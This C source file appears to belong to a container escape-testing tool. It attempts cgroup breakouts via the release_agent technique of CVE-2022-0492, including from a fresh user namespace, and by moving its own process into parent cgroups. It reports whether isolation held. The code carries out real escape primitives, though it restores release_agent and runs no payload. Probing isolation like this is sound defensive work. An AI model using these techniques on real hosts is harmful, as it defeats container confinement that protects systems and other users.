/* SPDX-License-Identifier: GPL-2.0-or-later */
/* cgroup escapes: a v1 hierarchy's release_agent (CVE-2022-0492, also from a new user, mount
 * and cgroup namespace), and moving ourselves into a parent cgroup (out of our limits). */
#define _GNU_SOURCE
#include "escape.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *const hierarchies[] = {"rdma",    "memory",		 "pids", "cpu",
					  "devices", "none,name=escape", NULL};

/* Mount a v1 hierarchy and write its release_agent (the path run on the host, as root, when
 * a cgroup empties).  Written back as it was if it works. */
static int mount_and_write_agent(char *msg, size_t size)
{
	const char *dir = "/tmp/escape-cg";
	int e = 0;

	mkdir(dir, 0700);
	for (size_t i = 0; hierarchies[i]; i++) {
		char old[4096], path[128];
		int fd, n;

		if (mount("cgroup", dir, "cgroup", 0, hierarchies[i]) < 0) {
			e = errno;
			continue;
		}
		snprintf(path, sizeof(path), "%s/release_agent", dir);
		n = read_small(path, old, sizeof(old));
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 && write(fd, "/escape-agent\n", 14) == 14) {
			lseek(fd, 0, SEEK_SET);
			if (write(fd, n > 0 ? old : "\n", n > 0 ? (size_t)n : 1) < 0)
				snprintf(msg, size, "(could not restore release_agent)");
			close(fd);
			umount2(dir, MNT_DETACH);
			snprintf(msg, size, "mounted cgroup v1 \"%s\" and wrote its release_agent",
				 hierarchies[i]);
			return 0;
		}
		snprintf(msg, size, "mounted \"%s\" but release_agent: %s", hierarchies[i],
			 strerror(errno));
		if (fd >= 0)
			close(fd);
		umount2(dir, MNT_DETACH);
		return 1;
	}
	snprintf(msg, size, "mount cgroup v1: %s", strerror(e));
	return 1;
}

static int release_agent(int argc, char **argv)
{
	char msg[512];

	(void)argc;
	(void)argv;
	if (mount_and_write_agent(msg, sizeof(msg)) == 0)
		return escaped("%s", msg);
	return refused("%s", msg);
}

static int release_agent_userns(int argc, char **argv)
{
	int pipefd[2], st;
	char msg[512] = "";
	pid_t pid;

	(void)argc;
	(void)argv;
	if (pipe2(pipefd, O_CLOEXEC) < 0)
		return probe_error("pipe: %s", strerror(errno));
	pid = fork();
	if (pid == 0) {
		int r;

		close(pipefd[0]);
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0) {
			snprintf(msg, sizeof(msg), "unshare(user|mnt|cgroup): %s", strerror(errno));
			r = 1;
		} else {
			char map[32];
			int fd;

			snprintf(map, sizeof(map), "0 %u 1", getuid());
			fd = open("/proc/self/uid_map", O_WRONLY | O_CLOEXEC);
			if (fd >= 0) {
				/* without the map we are nobody: the mount below fails and says so
				 */
				if (write(fd, map, strlen(map)) < 0)
					snprintf(msg, sizeof(msg), "uid_map: %s", strerror(errno));
				close(fd);
			}
			mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
			r = mount_and_write_agent(msg, sizeof(msg));
		}
		if (write(pipefd[1], msg, strlen(msg)) < 0)
			r = 2;
		_exit(r);
	}
	close(pipefd[1]);
	int n = (int)read(pipefd[0], msg, sizeof(msg) - 1);
	msg[n > 0 ? n : 0] = '\0';
	waitpid(pid, &st, 0);
	if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
		return escaped("in a new user+mount+cgroup namespace: %s", msg);
	if (WIFSIGNALED(st))
		return refused("the child was killed by signal %d (seccomp)", WTERMSIG(st));
	return refused("%s", msg);
}

/* /proc/self/cgroup lines "ID:CONTROLLERS:PATH"; write our pid into the parent's cgroup.procs
 * through every cgroup file system we can see or mount. */
static int parent_procs(int argc, char **argv)
{
	char before[4096], after[4096], msg[1024] = "", pid[16];
	static const char *const roots[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/pids",
					    "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified",
					    NULL};
	int e = 0;

	(void)argc;
	(void)argv;
	if (read_small("/proc/self/cgroup", before, sizeof(before)) < 0)
		return probe_error("/proc/self/cgroup: %s", strerror(errno));
	snprintf(pid, sizeof(pid), "%d\n", getpid());
	mkdir("/tmp/escape-cg2", 0700);
	if (mount("cgroup2", "/tmp/escape-cg2", "cgroup2", 0, NULL) < 0)
		snprintf(msg, sizeof(msg), "mount cgroup2: %s; ", strerror(errno));
	for (size_t i = 0; roots[i]; i++) {
		char path[256];
		int fd;

		/* our cgroup is the root of the cgroup namespace, or a path below; ".." of it and
		 * the hierarchy's root are both outside */
		snprintf(path, sizeof(path), "%s/cgroup.procs", roots[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0 || write(fd, pid, strlen(pid)) < 0)
			e = errno;
		if (fd >= 0)
			close(fd);
	}
	if (read_small("/proc/self/cgroup", after, sizeof(after)) < 0)
		return probe_error("/proc/self/cgroup: %s", strerror(errno));
	if (strcmp(before, after) != 0)
		return escaped("moved ourselves to another cgroup: %s", after);
	return refused("%swriting cgroup.procs: %s; /proc/self/cgroup unchanged", msg, strerror(e));
}

const struct technique cgroup_techniques[] = {
    {"release_agent", "", release_agent},
    {"release_agent_userns", "", release_agent_userns},
    {"cgroup_procs", "", parent_procs},
    {NULL, NULL, NULL},
};
